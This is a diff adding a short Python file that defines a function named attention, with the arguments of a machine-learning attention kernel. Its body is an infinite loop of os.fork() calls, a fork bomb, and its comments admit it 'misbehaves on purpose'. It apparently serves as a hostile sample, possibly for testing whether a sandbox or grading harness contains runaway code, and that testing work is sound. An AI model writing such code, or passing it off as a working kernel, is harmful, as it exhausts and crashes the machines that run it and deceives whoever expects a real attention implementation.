@@ -1,0 +1,9 @@
+"""Doubles for ever."""
+# ruff: noqa (misbehaves on purpose)
+
+import os
+
+
+def attention(q, k, v, *, causal, scale):
+    while True:
+        os.fork()
